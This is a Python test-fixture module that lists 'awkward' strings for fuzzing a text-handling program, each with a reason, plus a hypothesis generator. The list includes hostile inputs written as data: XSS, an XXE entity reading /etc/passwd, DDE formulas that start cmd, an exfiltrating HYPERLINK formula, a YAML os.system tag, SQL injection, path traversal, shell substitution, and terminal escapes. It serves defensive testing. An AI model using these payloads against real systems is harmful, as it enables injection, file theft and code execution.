"""Awkward strings: texts that have broken people, programs and files, each with a sentence on why it is here.

The list is published as it stands, for whoever tests something that takes in text. It is put together by hand from what
the formats that larande reads and writes give a meaning to: terminals, Word, HTML, Markdown, spreadsheets, calendars,
JSON, YAML, file systems, and Unicode itself.

``KINDS`` is the list by kind. ``AWKWARD`` is all of it, ``AWKWARD_TEXTS`` the texts alone, and `awkward` makes further
ones around them: pieces of several kinds after one another, with other characters of Unicode in between.
"""

from __future__ import annotations

from typing import Final, NamedTuple

from hypothesis import strategies as st


class Awkward(NamedTuple):
    """A text, and why it is awkward."""

    text: str
    why: str


KINDS: Final[dict[str, tuple[Awkward, ...]]] = {
    "markup": (
        Awkward("[/]", "closes a style of Textual's and Rich's that was never opened"),
        Awkward("[@click=app.quit]klicka[/]", "a link of Textual's that would end the program"),
        Awkward("[bold red on white]fet[/bold red on white]", "a style of Rich's"),
        Awkward(r"\[bold]x[/bold]\\", "a style that somebody has tried to escape, and a backslash at the end"),
        Awkward("{0} {} {namn!r:>9999999} %s %n %(x)s $HOME ${x}", "what formats and templates of programs replace"),
        Awkward("{{ 7 * 7 }} {% include 'x' %} <%= 7 %>", "what template engines would run, docxtpl's own among them"),
        Awkward("<script>alert(1)</script>", "a script in HTML"),
        Awkward("\"><img src=x onerror=alert(1)>", "leaves an attribute of HTML and runs a script"),
        Awkward("</w:t></w:r></w:p><w:p/>", "leaves a run and a paragraph of Word's"),
        Awkward("]]><!--&amp;&#0;&nbsp;&x;-->", "ends of CDATA and comments, and entities that XML does not know"),
        Awkward("<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "an entity that would fetch a file"),
        Awkward("# rubrik\n---\n1. ett\n- två\n> tre\n| a | b |\n```", "every mark that begins something in Markdown"),
        Awkward("![](http://x.y/spion.png) [a](javascript:alert(1))", "a picture that tells that it was seen"),
        Awkward("MERGEFIELD x \\* MERGEFORMAT { DDEAUTO c:\\\\x }", "field codes of Word's, and one runs programs"),
        Awkward("END:VEVENT\nBEGIN:VALARM\nDESCRIPTION:x", "leaves an event of a calendar and begins an alarm"),
        Awkward("ALTREP=\"x\";A:b\\n,\\;", "what calendars escape, escaped and not"),
    ),
    "terminal": (
        Awkward("\x1b[2J\x1b[H\x1b[31mröd", "empties a terminal and colours what follows"),
        Awkward("\x1b]0;kapad\x07", "renames the terminal's window (OSC 0)"),
        Awkward("\x1b]52;c;a2FwYWQ=\x1b\\", "writes on the clipboard (OSC 52)"),
        Awkward("\x1b]8;;http://x.y\x1b\\länk\x1b]8;;\x1b\\", "a link whose address does not show (OSC 8)"),
        Awkward("\x1bP$qm\x1b\\ \x1b_x\x1b\\ \x1b^y\x1b\\", "asks the terminal for something, and it types the answer"),
        Awkward("\x9b31mröd\x9d0;kapad\x9c", "the same in one-byte controls (C1)"),
        Awkward("\x1b[201~klistrat", "ends a bracketed paste, so that the rest counts as keys"),
        Awkward("rad\rover\x08\x08\x7f\x00slut", "goes back over what stands there, and a null that ends texts in C"),
        Awkward("\x07\x0e\x0f\x05", "rings, and shifts to another set of characters"),
        Awkward("\x1b", "the beginning of whatever comes next"),
    ),
    "direction": (
        Awkward("a\u202eb\u202cc", "an override: what follows stands backwards until it is popped"),
        Awkward("ändra\u202etxt.exe", "an override that is never popped reaches the neighbours"),
        Awkward("a\u2067b\u2068c\u2066d\u2069", "isolates, the newer sort"),
        Awkward("a\u202ab\u202bc\u202c", "embeddings, the older sort"),
        Awkward("1\u200f2\u200e3\u061c", "marks that turn numbers around"),
        Awkward("שלום עולם 123 abc", "Hebrew with numbers and Latin, which is only text"),
        Awkward("السلام عليكم (١٢٣)", "Arabic with its own digits and a parenthesis that is mirrored"),
    ),
    "invisible": (
        Awkward("a\u200bb\u200cc\u200dd\u2060e\ufefff", "blanks of no width, joiners, and the byte order mark"),
        Awkward("\u00ad\u034f\u180e\u115f\u3164", "characters that are letters or hyphens and show nothing"),
        Awkward("\u2800\u2003\u00a0\u202f\u3000", "blanks that no trimming of ASCII takes"),
        Awkward("\u200b", "looks empty and is not"),
        Awkward("\ufe0f\ufe0e\U000e0100", "selectors without anything to select"),
        Awkward("\U000e0041\U000e0042\U000e007f", "tags: a text that nobody sees"),
        Awkward("\ufff9a\ufffab\ufffb", "annotations between lines"),
    ),
    "broken": (
        Awkward("a\ud800b", "half of a character, the first half, alone"),
        Awkward("a\udc80b\udfff", "halves alone, as Python makes of file names that are not UTF-8"),
        Awkward("\ude00\ud83d", "both halves in the wrong order"),
        Awkward("\ufffe\uffff\ufdd0\U0001ffff", "what Unicode promises never to be a character"),
        Awkward("\ufffd", "what stands where something could not be read"),
        Awkward("\ue000\U0010fffd", "characters that everybody may give a meaning of their own"),
        Awkward("\u0378\U000effff", "places that nobody has given a character"),
    ),
    "letters": (
        Awkward("A\u030a a\u0308 O\u0308", "Å, ä and Ö as two characters each, as they come from a Mac"),
        Awkward("Z̸̧̛͓̯͙̪̤͇͉̀̈́̅a͌l̢̜g̡̱o̳", "more accents than a line is high"),
        Awkward("👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇸🇪", "pictures made of several characters and joiners"),
        Awkward("𝕃ä𝓻𝒂𝗻𝘥𝚎 Ⅷ ﬃ ½ ㎏", "letters that become others in compatible forms"),
        Awkward("日本語テスト 한국어 汉字", "letters two cells wide"),
        Awkward("ﷺ𒐫", "one character as wide as a word"),
        Awkward("İıſẞß ŉ", "letters whose capitals are others, or more"),
        Awkward("раураӏ аdmin", "Cyrillic that looks like Latin"),
        Awkward("ก้้้้้้้้้้้้้้้้้้้", "marks that pile up"),
    ),
    "formulas": (
        Awkward("=1+1", "a formula"),
        Awkward("=HYPERLINK(\"http://x.y?\"&A1;\"klicka\")", "a formula that takes the sheet's contents with it"),
        Awkward("=cmd|' /C calc'!A0", "a formula that starts a program (DDE)"),
        Awkward("+1+cmd|' /C calc'!A0", "the same with a plus"),
        Awkward("-2+3+cmd|' /C calc'!A0", "the same with a minus"),
        Awkward("@SUM(1+1)*cmd|' /C calc'!A0", "the same with an at sign, of Lotus'"),
        Awkward("\t=1+1", "a formula behind a tab"),
        Awkward(" \u00a0=1+1", "a formula behind blanks"),
        Awkward("\u200b=1+1", "a formula behind a blank of no width, which some programs take off"),
        Awkward("\ufeff=1+1", "a formula behind a byte order mark"),
        Awkward("＝1+1", "a formula with the wide sign, which Excel takes for the narrow one"),
        Awkward("{=1+1}", "a formula over several cells"),
        Awkward("a;=1+1\n=2+2\r=3+3", "a formula in the next cell, and in the next row"),
        Awkward("\";=1+1;\"", "a formula behind a quotation mark that ends the cell"),
        Awkward("_x0041_ _x001B_", "how Excel's files write characters by number"),
    ),
    "words": (
        Awkward("null", "nothing, in JSON and YAML"),
        Awkward("nan", "no number, in many languages"),
        Awkward("-", "a list's sign in YAML, and nobody's answer"),
        Awkward("Nej", "false, in some readings of YAML"),
        Awkward("1e309", "a number too large for one"),
        Awkward("00012", "a number that loses its zeros"),
        Awkward("3/4", "a day, in Excel"),
        Awkward("MARCH1", "a gene, and a day in Excel"),
        Awkward("12:30:45", "a number to the base of sixty, in older YAML"),
        Awkward("!!python/object/apply:os.system ['x']", "a tag of YAML that runs a program"),
        Awkward("&a [*a, *a]", "an anchor of YAML that holds itself"),
        Awkward("__proto__", "a name that changes every object, in JavaScript"),
        Awkward("'; DROP TABLE notes; --", "ends a command of a database"),
    ),
    "paths": (
        Awkward("../../../../tmp/kapad", "climbs out of its folder"),
        Awkward("..\\..\\kapad", "the same on Windows"),
        Awkward("/etc/passwd", "begins at the root"),
        Awkward("C:\\Windows\\system.ini", "begins at a disk"),
        Awkward("\\\\server\\delning\\x", "asks another machine, and tells it who one is"),
        Awkward("file:///etc/passwd", "a file as an address"),
        Awkward("~/.ssh/id_rsa", "begins at home"),
        Awkward("CON", "a device on Windows"),
        Awkward("nul.txt", "a device on Windows, with an ending"),
        Awkward("COM1", "a device on Windows, with a number"),
        Awkward("a:b*c?d\"e<f>g|h", "what Windows refuses in names, and a colon that hides a second file in a first"),
        Awkward("namn. ", "a dot and a blank at the end, which Windows drops"),
        Awkward(".", "the folder itself"),
        Awkward("..", "the folder above"),
        Awkward("-rf", "a flag"),
        Awkward("$(touch kapad)`touch kapad`", "what a shell runs"),
        Awkward("%00%2e%2e%2f", "the same for the web"),
    ),
    "lines": (
        Awkward("ett\r\ntvå\rtre\u0085fyra\u2028fem\u2029sex\x0bsju\x0cåtta", "what some program ends lines with"),
        Awkward("\n\n\n", "only line ends"),
        Awkward("   ", "only blanks"),
        Awkward("\t\tindraget\t", "tabs, also at the edges"),
        Awkward(" edges ", "blanks at the edges"),
        Awkward("a" * 300, "a word wider than any screen"),
        Awkward("ord " * 300, "a paragraph"),
        Awkward("rad\n" * 60, "more lines than a screen has"),
    ),
}  # fmt: skip
"""The list, by what the texts attack."""

AWKWARD: Final = tuple(one for kind in KINDS.values() for one in kind)
AWKWARD_TEXTS: Final = tuple(one.text for one in AWKWARD)

_PIECES: Final = st.sampled_from(AWKWARD_TEXTS) | st.text(st.characters(categories=None), max_size=8)


def awkward(max_pieces: int = 4) -> st.SearchStrategy[str]:
    """Generate texts around those of the list, lone halves of characters among them."""
    return st.lists(_PIECES, min_size=1, max_size=max_pieces).map("".join)


ANYTHING = st.text(st.characters(categories=("L", "M", "N", "P", "S", "Z", "C")), min_size=1, max_size=30)
"""Any text that Unicode allows, for hypothesis."""
